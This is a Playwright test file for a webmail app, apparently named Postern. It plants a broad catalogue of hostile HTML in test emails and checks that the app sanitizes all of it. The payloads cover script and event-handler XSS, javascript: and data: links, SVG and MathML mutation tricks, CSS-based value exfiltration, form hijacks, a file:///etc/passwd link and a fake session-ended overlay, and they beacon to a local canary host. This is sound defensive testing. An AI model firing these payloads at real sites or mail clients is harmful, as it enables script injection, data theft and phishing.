/** Hostile mail, from the login to the frame: nothing in it runs, nothing is fetched for it, nothing leaves. */
import type { Page } from '@playwright/test'
import { eml, ONE_PIXEL } from '#tests/servers/eml.ts'
import { type Canary, withCanary } from './canary.ts'
import { expect, signIn, test } from './fixtures.ts'
import { isPhone, open, row } from './screens.ts'

/** What every script in these mails does, if it can. */
const BITE = "top.reached=1;parent.reached=1;new Image().src='CANARY/bite'"

/** By what they try. Each is a message of its own, so that none can hide in another's unclosed tag. */
const MAILS: Record<string, string> = {
  'Scripts and handlers': `<script>${BITE}</script><script src="CANARY/a.js"></script><img src=x onerror="${BITE}">
    <body onload="${BITE}"><details open ontoggle="${BITE}">x</details><input autofocus onfocus="${BITE}">
    <video><source onerror="${BITE}"></video><style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${BITE}">x</p>
    <iframe srcdoc="<script>${BITE}</script>"></iframe><iframe src="javascript:${BITE}"></iframe>
    <object data="data:text/html,<script>${BITE}</script>"></object><embed src="CANARY/a.swf"><applet code="CANARY/a.class"></applet>`,
  'SVG and MathML': `<svg onload="${BITE}"><script>${BITE}</script><image href="CANARY/a.png"/><use href="CANARY/a.svg#x"/>
    <animate attributeName="href" values="CANARY/b"/><foreignObject><iframe src="CANARY/c"></iframe></foreignObject></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${BITE}&gt;">`,
  'Styles that tell': `<style>@import "CANARY/a.css";@font-face{font-family:f;src:url(CANARY/f.woff)}
    p{font-family:f;background:url(CANARY/p.png)}p::after{content:url(CANARY/after.png)}
    input[value^="a"]{background:url(CANARY/value-a)}a[href*="s"]{list-style-image:url(CANARY/href-s)}
    :root{--u:url(CANARY/var.png)}td{background:var(--u);border-image:url(CANARY/border.png) 1;cursor:url(CANARY/c.cur),auto}
    @media screen{li{mask:url(CANARY/mask.svg#m)}}@supports (a:b) or (color:red){b{filter:url(CANARY/filter.svg#f)}}</style>
    <p style="background:\\75 rl(CANARY/escaped)">x</p><p style="background:image-set('CANARY/set' 1x)">x</p>
    <p style="background:url(CANARY/open">x</p><input value="abc"><table><tr><td>x</td></tr></table><ul><li><b>x</b></li></ul>`,
  'Things that load': `<img src="CANARY/a.png"><img srcset="CANARY/b.png 2x"><picture><source srcset="CANARY/c.png"><img></picture>
    <body background="CANARY/d.png"><table background="CANARY/e.png"><tr><td background="CANARY/f.png">x</td></tr></table>
    <video poster="CANARY/g.png" src="CANARY/h.mp4" autoplay></video><audio src="CANARY/i.mp3" autoplay></audio>
    <link rel="stylesheet" href="CANARY/j.css"><link rel="prefetch" href="CANARY/k"><link rel="preconnect" href="CANARY">
    <link rel="dns-prefetch" href="CANARY"><link rel="icon" href="CANARY/l.ico"><iframe src="CANARY/m"></iframe>
    <input type="image" src="CANARY/n.png"><a href="#x" ping="CANARY/ping">x</a>`,
  'A page that goes elsewhere': `<meta http-equiv="refresh" content="0;url=CANARY/refresh"><base href="CANARY/base/" target="_top">
    <img src="relative.png"><a href="relative">x</a>`,
  'Forms and fields': `<form action="CANARY/form" method="post" id="f"><input name="password" type="password" value="x">
    <button id="press">Sign in again</button></form><button form="f" formaction="CANARY/formaction" id="press">x</button>
    <form action="javascript:${BITE}"><input type="submit" id="press" value="Go"></form>`,
  'Links that run': `<a id="press" href="javascript:${BITE}">one</a> <a id="press" href="&#106;ava&#10;script:${BITE}">two</a>
    <a id="press" href="data:text/html,<script>opener.reached=1</script>">three</a> <a id="press" href="blob:x">four</a>
    <a id="press" href="file:///etc/passwd">five</a> <svg><a xlink:href="javascript:${BITE}"><text y="20">six</text></a></svg>
    <map name="m"><area id="press" shape="default" href="javascript:${BITE}"></map><img usemap="#m" width="9" height="9">`,
  'Our own addresses': `<img src="/api/session"><img src="api/sessions"><p style="background:url(/api/folders)">x</p>
    <img src="/api/image?url=CANARY%2Fx.png&sig=x"><img srcset="/api/events 1x"><body background="/api/session">`,
  'Parts that are no pictures': `<img alt="evil" src="cid:evil@x"><img src="cid:none@x"><img src="cid:../../session">
    <img src="cid:x&quot; onerror=&quot;${BITE}"><iframe src="cid:evil@x"></iframe><object data="cid:page@x"></object>
    <link rel="stylesheet" href="cid:page@x"><p style="background:url(cid:evil@x)">x</p>`,
  'A mail that covers the app': `<div style="position:fixed;inset:0;z-index:99999;background:#fff;width:9999px;height:9999px">
    <h1>Your session has ended</h1></div><style>html,body{position:fixed;inset:0}*{pointer-events:none}</style>`,
}

const SVG = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="top.reached=1"><script>top.reached=1</script></svg>`,
)
const PARTS = [
  { filename: 'evil.svg', type: 'image/svg+xml', content: SVG, cid: 'evil@x' },
  {
    filename: 'page.html',
    type: 'text/html',
    content: Buffer.from('<script>top.reached=1</script>'),
    cid: 'page@x',
  },
]

const aimed = (html: string, { origin }: Canary) => `<p>Dear Sam,</p>${html.replaceAll('CANARY', origin)}`

/** Notes all that this browser does besides showing the app. */
function watched(page: Page, baseURL: string | undefined) {
  const left: string[] = []
  page.context().on('request', (request) => {
    if (!request.url().startsWith(`${baseURL}/`) && !/^(data|blob):/.test(request.url()))
      left.push(request.url())
  })
  page.context().on('page', (popup) => left.push(`a window: ${popup.url()}`))
  page.on('dialog', (dialog) => {
    left.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('download', (download) => left.push(`a download: ${download.url()}`))
  return left
}

async function expectCalm(page: Page, left: string[], canary: Canary, about: string): Promise<void> {
  await page.waitForTimeout(250)
  expect(left, about).toEqual([])
  expect(canary.requests, about).toEqual([])
  expect(canary.connections, about).toBe(0)
  expect(await page.evaluate(() => 'reached' in window), about).toBe(false)
}

async function backToList(page: Page): Promise<void> {
  if (isPhone(page)) await page.goBack()
}

test('opening hostile mail runs nothing, fetches nothing and leads nowhere', async ({
  page,
  mailbox,
  baseURL,
}) => {
  test.setTimeout(120_000)
  await withCanary(async (canary) => {
    const seeds = Object.entries(MAILS).map(([subject, html]) =>
      eml({ subject, html: aimed(html, canary), parts: PARTS }),
    )
    const left = watched(page, baseURL)
    await signIn(page, mailbox({ INBOX: seeds }))
    for (const subject of Object.keys(MAILS)) {
      await open(page, subject)
      await expect(page.frameLocator('iframe[title="Message"]').getByText('Dear Sam,')).toBeVisible()
      await expectCalm(page, left, canary, subject)
      expect(page.url(), subject).toMatch(new RegExp(`^${baseURL}/mail/`))
      await backToList(page)
    }
    await expect(page).toHaveTitle(/Postern/)
  })
})

test('pressing what a hostile mail offers runs nothing and sends nothing', async ({
  page,
  mailbox,
  baseURL,
}) => {
  await withCanary(async (canary) => {
    const offering = ['Forms and fields', 'Links that run']
    const seeds = offering.map((subject) => eml({ subject, html: aimed(MAILS[subject] ?? '', canary) }))
    const left = watched(page, baseURL)
    await signIn(page, mailbox({ INBOX: seeds }))
    for (const subject of offering) {
      await open(page, subject)
      const frame = page.frameLocator('iframe[title="Message"]')
      await expect(frame.locator('body')).toBeVisible()
      for (const one of await frame.locator('a, button, input, area').all())
        await one.dispatchEvent('click').catch(() => undefined) // gone since: it offers nothing any more
      await expectCalm(page, left, canary, subject)
      await backToList(page)
    }
  })
})

test('on consent pictures come through Postern alone, and none that could run', async ({
  page,
  mailbox,
  baseURL,
}) => {
  await withCanary(async (canary) => {
    const html = aimed(MAILS['Things that load'] ?? '', canary)
    const left = watched(page, baseURL)
    await signIn(page, mailbox({ INBOX: [eml({ subject: 'Newsletter', html })] }))
    await open(page, 'Newsletter')
    const through = page.waitForResponse((answer) => answer.url().includes('/api/image?'))
    await page.getByRole('button', { name: 'Load images' }).click()
    expect((await through).ok()).toBe(false)
    await expect.poll(() => canary.requests.length).toBeGreaterThan(0)
    await page.waitForTimeout(250)
    expect(left).toEqual([])
    for (const { path, headers } of canary.requests) {
      expect(path).toMatch(/^\/[a-gn]\.png$/)
      expect([headers.cookie, headers.referer, headers.origin]).toEqual([undefined, undefined, undefined])
    }
    expect(await page.evaluate(() => 'reached' in window)).toBe(false)
  })
})

test('subjects, names and file names are text wherever they stand', async ({ page, mailbox, baseURL }) => {
  await withCanary(async (canary) => {
    const tag = `<img src=${canary.origin}/t onerror=top.reached=1>`
    const source = eml({
      subject: `A ${tag}`,
      from: `"B ${tag}" <b@example.org>`,
      to: `"C ${tag}" <c@example.org>`,
      text: `D ${tag} javascript:top.reached=1 ${'<script>top.reached=1</script>'}`,
      parts: [{ filename: `E ${tag.replaceAll('/', '')}.png`, type: 'image/png', content: ONE_PIXEL }],
    })
    const left = watched(page, baseURL)
    await signIn(page, mailbox({ INBOX: [source], [`F ${tag.replaceAll('/', '')}`]: [] }))
    await expect(row(page, `A ${tag}`)).toBeVisible()
    const message = await open(page, `A ${tag}`)
    await expect(message.getByText(`D ${tag}`)).toBeVisible()
    await expect(message.locator('a[href^="javascript:"]')).toHaveCount(0)
    await expectCalm(page, left, canary, 'text')
  })
})

test('a page or a drawing in a mail is only ever saved, whatever way it is asked for', async ({
  page,
  mailbox,
  baseURL,
}) => {
  await signIn(page, mailbox({ INBOX: [eml({ subject: 'With files', html: '<p>Hi</p>', parts: PARTS })] }))
  await open(page, 'With files')
  const id = new URL(page.url()).pathname.split('/').at(-1)
  const { attachments } = await (await page.request.get(`${baseURL}/api/messages/${id}`)).json()
  expect(attachments).toHaveLength(2)
  for (const { partId } of attachments) {
    const answer = await page.request.get(`${baseURL}/api/messages/${id}/parts/${partId}?disposition=inline`)
    expect(answer.headers()['content-disposition']).toMatch(/^attachment/)
    expect(answer.headers()['content-security-policy']).toContain('sandbox')
    expect(answer.headers()['x-content-type-options']).toBe('nosniff')
  }
})
